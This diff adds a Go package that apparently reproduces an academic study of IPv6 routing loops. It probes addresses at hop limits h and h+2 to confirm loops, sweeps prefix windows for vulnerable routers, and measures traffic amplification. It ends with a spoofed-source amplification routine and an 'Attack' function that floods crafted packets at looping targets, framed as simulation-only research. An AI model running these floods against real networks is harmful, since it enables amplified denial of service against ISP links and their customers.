@@ -1,0 +1,333 @@
+// Package loopscan implements the Section VI routing-loop measurement:
+// the h / h+2 hop-limit probe pair that confirms a forwarding loop, the
+// window sweeps over ISP blocks and BGP-advertised prefixes, and the
+// amplification accounting of the attack itself.
+package loopscan
+
+import (
+	"crypto/hmac"
+	"crypto/sha256"
+	"fmt"
+
+	"repro/internal/ipv6"
+	"repro/internal/netsim"
+	"repro/internal/perm"
+	"repro/internal/uint128"
+	"repro/internal/wire"
+	"repro/internal/xmap"
+)
+
+// DefaultHopLimit is the probe hop limit h. The paper selects 32: large
+// enough to cross the Internet (Yarrp6's fill-mode data shows all paths
+// <32), small enough to bound the loop traffic a probe induces.
+const DefaultHopLimit = 32
+
+// Verdict classifies one probed address.
+type Verdict int
+
+// Verdicts.
+const (
+	VerdictSilent      Verdict = iota + 1 // no response
+	VerdictUnreachable                    // healthy: destination unreachable
+	VerdictLoop                           // confirmed: time exceeded twice from one device
+	VerdictTransient                      // time exceeded once, unconfirmed
+)
+
+// String names the verdict.
+func (v Verdict) String() string {
+	switch v {
+	case VerdictSilent:
+		return "silent"
+	case VerdictUnreachable:
+		return "unreachable"
+	case VerdictLoop:
+		return "loop"
+	case VerdictTransient:
+		return "transient"
+	}
+	return fmt.Sprintf("verdict(%d)", int(v))
+}
+
+// CheckResult is the outcome for one target address.
+type CheckResult struct {
+	Target    ipv6.Addr
+	Responder ipv6.Addr
+	Verdict   Verdict
+}
+
+// Detector probes for loops through a scan driver.
+type Detector struct {
+	drv xmap.Driver
+	// HopLimit is h (default DefaultHopLimit).
+	HopLimit uint8
+	seq      uint16
+}
+
+// NewDetector creates a detector.
+func NewDetector(drv xmap.Driver) *Detector {
+	return &Detector{drv: drv, HopLimit: DefaultHopLimit}
+}
+
+// probe sends one echo request with the given hop limit and returns the
+// first matching ICMPv6 response.
+func (d *Detector) probe(dst ipv6.Addr, hopLimit uint8) (responder ipv6.Addr, icmpType uint8, ok bool, err error) {
+	d.seq++
+	id := validationID(dst)
+	pkt, err := wire.BuildEchoRequest(d.drv.SourceAddr(), dst, hopLimit, id, d.seq, nil)
+	if err != nil {
+		return ipv6.Addr{}, 0, false, err
+	}
+	if err := d.drv.Send(pkt); err != nil {
+		return ipv6.Addr{}, 0, false, err
+	}
+	for _, raw := range d.drv.Recv() {
+		sum, perr := wire.ParsePacket(raw)
+		if perr != nil || sum.ICMP == nil {
+			continue
+		}
+		switch sum.ICMP.Type {
+		case wire.ICMPDestUnreach, wire.ICMPTimeExceeded:
+			inv, perr := wire.ParseInvoking(sum.ICMP.Body)
+			if perr != nil || inv.IP.Dst != dst || inv.EchoID != id {
+				continue
+			}
+			return sum.IP.Src, sum.ICMP.Type, true, nil
+		case wire.ICMPEchoReply:
+			if sum.IP.Src == dst {
+				return sum.IP.Src, wire.ICMPEchoReply, true, nil
+			}
+		}
+	}
+	return ipv6.Addr{}, 0, false, nil
+}
+
+// validationID derives the echo identifier from the target.
+func validationID(dst ipv6.Addr) uint16 {
+	mac := hmac.New(sha256.New, []byte("loopscan"))
+	b := dst.Bytes()
+	mac.Write(b[:])
+	s := mac.Sum(nil)
+	return uint16(s[0])<<8 | uint16(s[1])
+}
+
+// CheckAddr applies the paper's method to one address: a Time Exceeded
+// reply to hop limit h, confirmed by a second Time Exceeded from the
+// same device at h+2, proves a loop (a linear path would have delivered
+// or erred identically at both hop limits only from the same distance —
+// the +2 step keeps loop parity so the same device answers).
+func (d *Detector) CheckAddr(dst ipv6.Addr) (CheckResult, error) {
+	res := CheckResult{Target: dst, Verdict: VerdictSilent}
+	from, typ, ok, err := d.probe(dst, d.HopLimit)
+	if err != nil {
+		return res, err
+	}
+	if !ok {
+		return res, nil
+	}
+	res.Responder = from
+	if typ != wire.ICMPTimeExceeded {
+		res.Verdict = VerdictUnreachable
+		return res, nil
+	}
+	from2, typ2, ok2, err := d.probe(dst, d.HopLimit+2)
+	if err != nil {
+		return res, err
+	}
+	if ok2 && typ2 == wire.ICMPTimeExceeded && from2 == from {
+		res.Verdict = VerdictLoop
+		return res, nil
+	}
+	res.Verdict = VerdictTransient
+	return res, nil
+}
+
+// HopInfo is the aggregated view of one observed last hop.
+type HopInfo struct {
+	Addr ipv6.Addr
+	// Vulnerable is set if any probe through this hop confirmed a loop.
+	Vulnerable bool
+	// SameCount/DiffCount split targets by /64 equality with the hop
+	// (Table XI's same/diff columns).
+	SameCount, DiffCount int
+}
+
+// ScanResult aggregates a loop sweep.
+type ScanResult struct {
+	Targets   uint64
+	Responses uint64
+	Hops      map[ipv6.Addr]*HopInfo
+}
+
+// VulnerableHops returns the hops with confirmed loops.
+func (r *ScanResult) VulnerableHops() []*HopInfo {
+	var out []*HopInfo
+	for _, h := range r.Hops {
+		if h.Vulnerable {
+			out = append(out, h)
+		}
+	}
+	return out
+}
+
+// ScanWindows sweeps each window: every sub-prefix probed once at a
+// pseudo-random host address, loop-checked per CheckAddr.
+func (d *Detector) ScanWindows(windows []ipv6.Window, seed []byte) (*ScanResult, error) {
+	res := &ScanResult{Hops: make(map[ipv6.Addr]*HopInfo)}
+	for _, w := range windows {
+		size, ok := w.Size()
+		if !ok {
+			return nil, fmt.Errorf("loopscan: window %s too large", w)
+		}
+		cycle, err := perm.NewCycle(size, append([]byte("loop-"), seed...))
+		if err != nil {
+			return nil, fmt.Errorf("loopscan: permutation for %s: %w", w, err)
+		}
+		it := cycle.Iterate()
+		for {
+			idx, ok := it.Next()
+			if !ok {
+				break
+			}
+			sub, err := w.Sub(idx)
+			if err != nil {
+				return nil, err
+			}
+			dst := targetIn(sub, seed)
+			res.Targets++
+			cr, err := d.CheckAddr(dst)
+			if err != nil {
+				return nil, err
+			}
+			if cr.Verdict == VerdictSilent {
+				continue
+			}
+			res.Responses++
+			hop := res.Hops[cr.Responder]
+			if hop == nil {
+				hop = &HopInfo{Addr: cr.Responder}
+				res.Hops[cr.Responder] = hop
+			}
+			if cr.Verdict == VerdictLoop {
+				hop.Vulnerable = true
+			}
+			if cr.Responder.Prefix64() == dst.Prefix64() {
+				hop.SameCount++
+			} else {
+				hop.DiffCount++
+			}
+		}
+	}
+	return res, nil
+}
+
+// targetIn derives the pseudo-random in-prefix host address.
+func targetIn(sub ipv6.Prefix, seed []byte) ipv6.Addr {
+	mac := hmac.New(sha256.New, seed)
+	b := sub.Addr().Bytes()
+	mac.Write(b[:])
+	sum := mac.Sum(nil)
+	host := uint128.FromBytes(sum[:16])
+	hostBits := uint(128 - sub.Bits())
+	if hostBits < 128 {
+		host = host.And(uint128.Max.Rsh(128 - hostBits))
+	}
+	if host.IsZero() {
+		host = uint128.One
+	}
+	return ipv6.AddrFrom128(sub.Addr().Uint128().Or(host))
+}
+
+// AmplificationResult quantifies one attack packet's effect.
+type AmplificationResult struct {
+	// LinkPackets is how many packets the victim access link carried.
+	LinkPackets uint64
+	// LinkBytes is the byte volume on that link.
+	LinkBytes uint64
+	// Factor is packets carried per attacker packet sent.
+	Factor float64
+}
+
+// MeasureAmplification sends a single maximum-hop-limit packet to dst and
+// reports the traffic it induced on the victim link — the paper's ">200"
+// amplification factor measurement (Section VI-A: each packet traverses
+// the ISP-CPE link 255-n times).
+func MeasureAmplification(drv xmap.Driver, dst ipv6.Addr, victim *netsim.Link) (AmplificationResult, error) {
+	before := snapshot(victim)
+	pkt, err := wire.BuildEchoRequest(drv.SourceAddr(), dst, wire.MaxHopLimit, 0xa77a, 1, nil)
+	if err != nil {
+		return AmplificationResult{}, err
+	}
+	if err := drv.Send(pkt); err != nil {
+		return AmplificationResult{}, err
+	}
+	drv.Recv() // drain any terminal error
+	after := snapshot(victim)
+	res := AmplificationResult{
+		LinkPackets: after.pkts - before.pkts,
+		LinkBytes:   after.bytes - before.bytes,
+	}
+	res.Factor = float64(res.LinkPackets)
+	return res, nil
+}
+
+// MeasureAmplificationSpoofed repeats the measurement with a spoofed
+// source address that itself falls in a looping prefix: the terminal
+// Time Exceeded error is then routed back into the loop and ping-pongs a
+// second time, "doubling the loop times" as Section VI-A notes for ASes
+// without source address validation.
+func MeasureAmplificationSpoofed(drv xmap.Driver, dst, spoofedSrc ipv6.Addr, victim *netsim.Link) (AmplificationResult, error) {
+	before := snapshot(victim)
+	pkt, err := wire.BuildEchoRequest(spoofedSrc, dst, wire.MaxHopLimit, 0xa77b, 1, nil)
+	if err != nil {
+		return AmplificationResult{}, err
+	}
+	if err := drv.Send(pkt); err != nil {
+		return AmplificationResult{}, err
+	}
+	drv.Recv()
+	after := snapshot(victim)
+	res := AmplificationResult{
+		LinkPackets: after.pkts - before.pkts,
+		LinkBytes:   after.bytes - before.bytes,
+	}
+	res.Factor = float64(res.LinkPackets)
+	return res, nil
+}
+
+type linkCounters struct{ pkts, bytes uint64 }
+
+func snapshot(l *netsim.Link) linkCounters {
+	a := l.StatsFrom(l.Ends()[0])
+	b := l.StatsFrom(l.Ends()[1])
+	return linkCounters{pkts: a.Packets + b.Packets, bytes: a.Bytes + b.Bytes}
+}
+
+// Attack floods count crafted packets at the targets in round-robin,
+// returning the total victim-link traffic — the DoS scenario of Figure 4
+// driven at volume. Research use against one's own simulated network
+// only; the real-world counterpart is precisely what the paper discloses
+// as a vulnerability.
+func Attack(drv xmap.Driver, targets []ipv6.Addr, count int, victim *netsim.Link) (AmplificationResult, error) {
+	if len(targets) == 0 || count <= 0 {
+		return AmplificationResult{}, fmt.Errorf("loopscan: nothing to send")
+	}
+	before := snapshot(victim)
+	for i := 0; i < count; i++ {
+		dst := targets[i%len(targets)]
+		pkt, err := wire.BuildEchoRequest(drv.SourceAddr(), dst, wire.MaxHopLimit, uint16(i), uint16(i>>16), nil)
+		if err != nil {
+			return AmplificationResult{}, err
+		}
+		if err := drv.Send(pkt); err != nil {
+			return AmplificationResult{}, err
+		}
+		drv.Recv()
+	}
+	after := snapshot(victim)
+	res := AmplificationResult{
+		LinkPackets: after.pkts - before.pkts,
+		LinkBytes:   after.bytes - before.bytes,
+	}
+	res.Factor = float64(res.LinkPackets) / float64(count)
+	return res, nil
+}
